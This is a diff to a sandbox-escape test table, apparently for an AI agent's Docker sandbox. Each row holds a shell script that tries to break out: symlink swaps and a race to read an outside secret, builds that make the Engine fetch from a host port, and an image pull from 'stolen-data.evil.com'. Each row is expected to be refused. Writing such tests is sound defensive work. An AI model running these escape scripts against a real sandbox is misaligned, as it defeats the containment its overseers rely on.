@@ -1,7 +1,7 @@
 /**
- * Attempts to leave a sandbox, each run in a real one as the agent would run it. Every row must fail: it prints
- * ESCAPED when it succeeds, and nothing of what the host, other containers and the proxy hold may be seen.
- * `says` shows that the attempt was made and was refused for the reason it should be.
+ * A table of attempts to leave a sandbox, each run in a real one as the agent would run it. Every row must fail:
+ * it prints ESCAPED when it succeeds, and nothing of what the host, other containers and the proxy hold may be
+ * seen. `says` shows that the attempt was made and was refused for the reason it should be.
  */
 import assert from "node:assert/strict";
 import { type EscapeRoom, escapeRoom, foreignIntact } from "../../support/escape_room.ts";
@@ -541,7 +541,7 @@ const docker: Attempt[] = [
   {
     name: "a container on the bridge",
     script:
-      `id=$(docker_ POST /containers/create "{\\"Image\\":\\"$FOREIGN_IMAGE\\",\\"Cmd\\":[\\"ls\\",\\"/sys/class/net\\"],\\"HostConfig\\":{\\"NetworkMode\\":\\"bridge\\"}}" | grep -o '[0-9a-f]\\{64\\}'); docker_ POST /containers/$id/start; docker_ POST /containers/$id/wait; docker_ GET "/containers/$id/logs?stdout=1" --output - | tr -d '\\0' | grep eth && echo ESCAPED; docker_ DELETE "/containers/$id?force=1"; echo "made $id"`,
+      `id=$(docker_ POST /containers/create "{\\"Image\\":\\"$FOREIGN_IMAGE\\",\\"Cmd\\":[\\"ls\\",\\"/sys/class/net\\"],\\"HostConfig\\":{\\"NetworkMode\\":\\"bridge\\"}}" | grep -o '[0-9a-f]\\{64\\}'); docker_ POST /containers/$id/start; docker_ POST /containers/$id/wait; docker_ GET "/containers/$id/logs?stdout=1" '' --output - | tr -d '\\0' | grep eth && echo ESCAPED; docker_ DELETE "/containers/$id?force=1"; echo "made $id"`,
     says: /made [0-9a-f]{64}/,
   },
   {
@@ -570,13 +570,31 @@ const docker: Attempt[] = [
   {
     name: "a link put in place before the start",
     script:
-      `mkdir swap; id=$(create "{\\"Binds\\":[\\"$WORK/swap:/x\\"]}" | grep -o '[0-9a-f]\\{64\\}'); rmdir swap; ln -s "$OUTSIDE" swap; docker_ POST /containers/$id/start; docker_ GET "/containers/$id/archive?path=/x/secret" --output - ; docker_ DELETE "/containers/$id?force=1"; rm swap`,
+      `mkdir swap; id=$(create "{\\"Binds\\":[\\"$WORK/swap:/x\\"]}" | grep -o '[0-9a-f]\\{64\\}'); rmdir swap; ln -s "$OUTSIDE" swap; docker_ POST /containers/$id/start; docker_ GET "/containers/$id/archive?path=/x/secret" '' --output - ; docker_ DELETE "/containers/$id?force=1"; rm swap`,
     says: /symbolic link/,
+  },
+  {
+    name: "a link put in place before something is copied out",
+    script:
+      `mkdir swap; id=$(create "{\\"Binds\\":[\\"$WORK/swap:/x\\"]}" | grep -o '[0-9a-f]\\{64\\}'); rmdir swap; ln -s "$OUTSIDE" swap; docker_ GET "/containers/$id/archive?path=/x/secret" '' --output - | tr -d '\\0'; docker_ DELETE "/containers/$id?force=1"; rm swap`,
+    says: /nothing can be copied out/,
+  },
+  {
+    name: "a build that has the Engine fetch from the host",
+    script:
+      `printf 'FROM %s\\nADD http://127.0.0.1:%s/x /x\\nRUN cat /x\\n' "$FOREIGN_IMAGE" "$HOST_PORT" > /tmp/Dockerfile; tar -C /tmp -c Dockerfile | docker_ POST /build '' -H 'Content-Type: application/x-tar' --data-binary @-; printf 'FROM %s\\nARG U\\nADD $U /x\\nRUN cat /x\\n' "$FOREIGN_IMAGE" > /tmp/Dockerfile; tar -C /tmp -c Dockerfile | docker_ POST "/build?buildargs=%7B%22U%22%3A%22http%3A%2F%2F127.0.0.1%3A$HOST_PORT%22%7D" '' -H 'Content-Type: application/x-tar' --data-binary @-`,
+    says: /(ADD of a URL is not allowed[^]*){2}/,
+  },
+  {
+    name: "a base image from a registry on the host",
+    script:
+      `printf 'FROM 127.0.0.1:%s/x\\n' "$HOST_PORT" > /tmp/Dockerfile; tar -C /tmp -c Dockerfile | docker_ POST /build '' -H 'Content-Type: application/x-tar' --data-binary @-; docker_ POST "/images/create?fromImage=127.0.0.1:$HOST_PORT/x&tag=1"; docker_ POST "/images/create?fromImage=stolen-data.evil.com/x&tag=1"`,
+    says: /(registry [^ ]+ is blocked[^]*){3}/,
   },
   {
     name: "a link put in place while it starts",
     script:
-      `mkdir race; id=$(create "{\\"Binds\\":[\\"$WORK/race:/x\\"]}" | grep -o '[0-9a-f]\\{64\\}'); (while [ -e /tmp/go ] || sleep 0.01; do mv -T race r1 2>/dev/null; ln -sfn "$OUTSIDE" race; rm -f race; mv -T r1 race 2>/dev/null; [ -e /tmp/stop ] && exit; done) & touch /tmp/go; for i in 1 2 3 4 5 6; do docker_ POST /containers/$id/start; docker_ GET "/containers/$id/archive?path=/x/secret" --output -; docker_ POST "/containers/$id/kill"; done; touch /tmp/stop; wait; docker_ DELETE "/containers/$id?force=1"; echo raced`,
+      `mkdir race; id=$(create "{\\"Binds\\":[\\"$WORK/race:/x\\"]}" | grep -o '[0-9a-f]\\{64\\}'); (while [ ! -e /tmp/stop ]; do mv -T race r1; ln -sfn "$OUTSIDE" race; rm -f race; mv -T r1 race; done 2>/dev/null) & for i in $(seq 12); do docker_ POST /containers/$id/start && docker_ GET /containers/$id/json | grep -o '"Running":true'; e=$(docker_ POST /containers/$id/exec '{"Cmd":["cat","/x/secret"],"AttachStdout":true}' | grep -o '[0-9a-f]\\{64\\}'); [ "$e" ] && docker_ POST /exec/$e/start '{"Detach":false}' --output - | tr -d '\\0\\1'; docker_ POST "/containers/$id/kill" >/dev/null; done; touch /tmp/stop; wait; docker_ DELETE "/containers/$id?force=1"; echo raced`,
     says: /raced/,
   },
   {
